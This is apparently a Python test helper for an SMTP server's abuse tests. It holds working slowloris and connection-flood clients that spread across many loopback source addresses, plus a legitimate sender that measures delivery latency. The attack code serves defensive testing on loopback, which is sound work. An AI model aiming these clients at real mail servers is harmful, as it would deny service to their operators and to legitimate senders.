"""Hostile and legitimate SMTP clients for the slowloris test and ``bench/abuse_bench.py``.

Everything runs on loopback. Distinct client addresses come from binding 127.N.M.1 (on Linux all
of 127.0.0.0/8 is loopback, no aliases needed). Every loop stops on ``stop`` and every wait has a
timeout, so a run is bounded in count and time.

* ``slowloris``: reach DATA, then one byte every ``every`` seconds; when cut, note the reply and
  the seconds since the 354, and come back (a real attacker reconnects).
* ``flood``: connect and hold (read the banner, then say nothing), or connect and close at once.
* ``send_messages``: a legitimate sender, one message per connection (the MX case), with the
  acceptance and latency of each.
"""

from __future__ import annotations

import asyncio
import contextlib
import smtplib
import socket
import statistics
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

SENDER = "alice@example.org"
RCPT = "support@example.test"
MESSAGE = (
    b"From: alice@example.org\r\nTo: support@example.test\r\nSubject: order 1234\r\n\r\n"
    + b"Where is my order? It was due last week.\r\n" * 20
)


def attacker_sources(networks: int, per_network: int, first: int = 1) -> list[str]:
    """``127.<first..first+networks-1>.0.<1..per_network>``: one /24 per network."""
    return [
        f"127.{n}.0.{h}" for n in range(first, first + networks) for h in range(1, per_network + 1)
    ]


@dataclass
class AttackStats:
    attempts: int = 0
    refused: int = 0  # no 220 banner (421 at connect)
    reached_data: int = 0
    open_now: int = 0
    peak_open: int = 0
    in_data_now: int = 0
    peak_in_data: int = 0
    # (reply, seconds after the 354 for slowloris, after the banner for a flood holder)
    cuts: list[tuple[bytes, float]] = field(default_factory=list)

    def opened(self) -> None:
        self.open_now += 1
        self.peak_open = max(self.peak_open, self.open_now)


async def _open(
    host: str, port: int, source: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.wait_for(
        asyncio.open_connection(host, port, local_addr=(source, 0)), timeout=10
    )


async def _reply(reader: asyncio.StreamReader, timeout: float = 15.0) -> bytes:
    out = b""
    while True:
        line = await asyncio.wait_for(reader.readline(), timeout)
        out += line
        if not line or line[3:4] != b"-":
            return out


async def _slowloris_one(
    host: str, port: int, source: str, every: float, stop: asyncio.Event, stats: AttackStats
) -> None:
    while not stop.is_set():
        stats.attempts += 1
        try:
            reader, writer = await _open(host, port, source)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.5)
            continue
        stats.opened()
        try:
            banner = await _reply(reader)
            if not banner.startswith(b"220"):
                stats.refused += 1
                await asyncio.sleep(0.5)
                continue
            ok = True
            for cmd in (
                b"EHLO slow.test",
                f"MAIL FROM:<{SENDER}>".encode(),
                f"RCPT TO:<{RCPT}>".encode(),
                b"DATA",
            ):
                writer.write(cmd + b"\r\n")
                reply = await _reply(reader)
                if reply[:1] not in (b"2", b"3"):
                    ok = False
                    break
            if not ok:
                await asyncio.sleep(0.5)
                continue
            stats.reached_data += 1
            stats.in_data_now += 1
            stats.peak_in_data = max(stats.peak_in_data, stats.in_data_now)
            started = time.monotonic()
            try:
                while not stop.is_set():
                    writer.write(b"x")
                    try:
                        line = await asyncio.wait_for(reader.readline(), every)
                    except TimeoutError:
                        continue
                    stats.cuts.append((line, time.monotonic() - started))
                    break
            finally:
                stats.in_data_now -= 1
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.2)
        finally:
            stats.open_now -= 1
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()


async def slowloris(
    host: str,
    port: int,
    sources: list[str],
    per_source: int,
    every: float,
    stop: asyncio.Event,
    stats: AttackStats,
) -> None:
    """``per_source`` trickling connections from each source address until ``stop``."""
    await asyncio.gather(
        *(
            _slowloris_one(host, port, src, every, stop, stats)
            for src in sources
            for _ in range(per_source)
        )
    )


async def _flood_one(
    host: str, port: int, source: str, hold: bool, stop: asyncio.Event, stats: AttackStats
) -> None:
    while not stop.is_set():
        stats.attempts += 1
        try:
            reader, writer = await _open(host, port, source)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.2)
            continue
        stats.opened()
        try:
            if hold:
                banner = await _reply(reader)
                if not banner.startswith(b"220"):
                    stats.refused += 1
                    await asyncio.sleep(0.5)
                    continue
                # Say nothing; wait to be closed (or for the end of the run), noting what the
                # server says when it cuts the holder (seconds since the banner).
                held = time.monotonic()
                while not stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(200), 1.0)
                    except TimeoutError:
                        continue
                    if not data:
                        break
                    stats.cuts.append((data, time.monotonic() - held))
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            stats.open_now -= 1
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()
        if not hold:
            await asyncio.sleep(0.01)


async def flood(
    host: str,
    port: int,
    sources: list[str],
    per_source: int,
    hold: bool,
    stop: asyncio.Event,
    stats: AttackStats,
) -> None:
    """Connect-and-hold (``hold``) or connect-and-close loops, ``per_source`` per address."""
    await asyncio.gather(
        *(
            _flood_one(host, port, src, hold, stop, stats)
            for src in sources
            for _ in range(per_source)
        )
    )


@dataclass
class SendResult:
    accepted: int
    total: int
    latencies: list[float]  # seconds, connect to the reply after DATA, accepted messages only
    failures: list[str]

    @property
    def ratio(self) -> float:
        return self.accepted / self.total if self.total else 0.0

    @property
    def p95(self) -> float:
        if not self.latencies:
            return float("nan")
        if len(self.latencies) < 2:
            return self.latencies[0]
        return statistics.quantiles(self.latencies, n=20, method="inclusive")[18]


def send_one(host: str, port: int, source: str, timeout: float = 30.0) -> tuple[bool, float, str]:
    """One message on one connection: (accepted, seconds, what went wrong)."""
    t0 = time.monotonic()
    try:
        with smtplib.SMTP(timeout=timeout, source_address=(source, 0)) as c:
            c.connect(host, port)
            c.ehlo("legit.test")
            code, _ = c.mail(SENDER)
            if code != 250:
                return False, time.monotonic() - t0, f"MAIL {code}"
            code, _ = c.rcpt(RCPT)
            if code != 250:
                return False, time.monotonic() - t0, f"RCPT {code}"
            code, _ = c.data(MESSAGE)
            return code == 250, time.monotonic() - t0, "" if code == 250 else f"DATA {code}"
    except (smtplib.SMTPException, OSError) as exc:
        return False, time.monotonic() - t0, type(exc).__name__ + ": " + str(exc)[:80]


def send_messages(
    host: str, port: int, count: int, sources: list[str], pause: float = 0.0
) -> SendResult:
    """``count`` messages one after another, message i from ``sources[i % len(sources)]``."""
    ok, lat, fails = 0, [], []
    for i in range(count):
        accepted, took, why = send_one(host, port, sources[i % len(sources)])
        if accepted:
            ok += 1
            lat.append(took)
        else:
            fails.append(why)
        if pause:
            time.sleep(pause)
    return SendResult(ok, count, lat, fails)


def raise_fd_limit(wanted: int) -> None:
    """Enough descriptors for ``wanted`` sockets (both ends live in this process in tests)."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))


def loopback_aliases_work() -> bool:
    try:
        with socket.socket() as s:
            s.bind(("127.0.12.1", 0))
        return True
    except OSError:
        return False


class AttackThread:
    """Runs attack coroutines on their own event loop in a thread (the server keeps its loop).

    ``start(lambda stop: slowloris(..., stop, stats))``; ``stop()`` ends every loop and waits.
    """

    def __init__(self) -> None:
        import threading

        self._thread: threading.Thread | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._ready = threading.Event()
        self.error: BaseException | None = None

    def start(self, *attacks: Callable[[asyncio.Event], Awaitable[None]]) -> None:
        import threading

        async def main() -> None:
            self._loop = asyncio.get_running_loop()
            self._stop = asyncio.Event()
            self._ready.set()
            await asyncio.gather(*(attack(self._stop) for attack in attacks))

        def run() -> None:
            try:
                asyncio.run(main())
            except BaseException as exc:  # reported by stop()
                self.error = exc

        self._thread = threading.Thread(target=run, name="attack", daemon=True)
        self._thread.start()
        self._ready.wait(10)

    def stop(self, timeout: float = 30.0) -> None:
        if self._loop is not None and self._stop is not None:
            self._loop.call_soon_threadsafe(self._stop.set)
        if self._thread is not None:
            self._thread.join(timeout)
            assert not self._thread.is_alive(), "attack thread did not stop"
        if self.error is not None:
            raise self.error
